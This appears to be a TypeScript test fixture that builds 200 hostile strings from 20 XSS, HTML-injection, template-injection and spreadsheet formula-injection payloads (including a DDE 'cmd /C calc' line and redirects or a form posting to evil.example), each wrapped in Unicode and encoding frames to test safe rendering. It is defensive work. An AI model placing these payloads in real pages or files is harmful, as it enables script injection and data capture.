/** 200 texts that would be harmful if a page rendered them as anything but text. */
const payloads = [
  "<script>globalThis.wasRun = true</script>",
  "<img src=x onerror=globalThis.wasRun=true>",
  "<svg onload=globalThis.wasRun=true>",
  `"><iframe srcdoc="<script>parent.wasRun=true</script>">`,
  "javascript:globalThis.wasRun=true",
  "data:text/html,<script>alert(1)</script>",
  "{{constructor.constructor('globalThis.wasRun=true')()}}",
  "${globalThis.wasRun=true}",
  "<a href=javascript:globalThis.wasRun=true>claim</a>",
  "<style>*{display:none}</style>",
  "<base href=//evil.example>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "</title><script>globalThis.wasRun=true</script>",
  "<form action=//evil.example><input name=key>",
  "<math><mtext><table><mglyph><style><img src=x onerror=globalThis.wasRun=true>",
  "' onmouseover=globalThis.wasRun=true '",
  '=HYPERLINK("//evil.example")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "https://evil.example/claim",
  "USD\u0421 free at evil.example",
] as const

/** Texts that surround a payload. */
const frames: ReadonlyArray<(text: string) => string> = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => `\u202e${text}`,
  (text) => `\u2066${text}\u2069`,
  (text) => `عملة ${text}`,
  (text) => `${text}${"\u0301".repeat(20)}`,
  (text) => ` ${text} `,
  (text) => `${text}\n${text}`,
  (text) => encodeURIComponent(text),
  (text) => `&lt;${text}&gt;`,
]

export const hostile: ReadonlyArray<string> = frames.flatMap((frame) => payloads.map((text) => frame(text)))
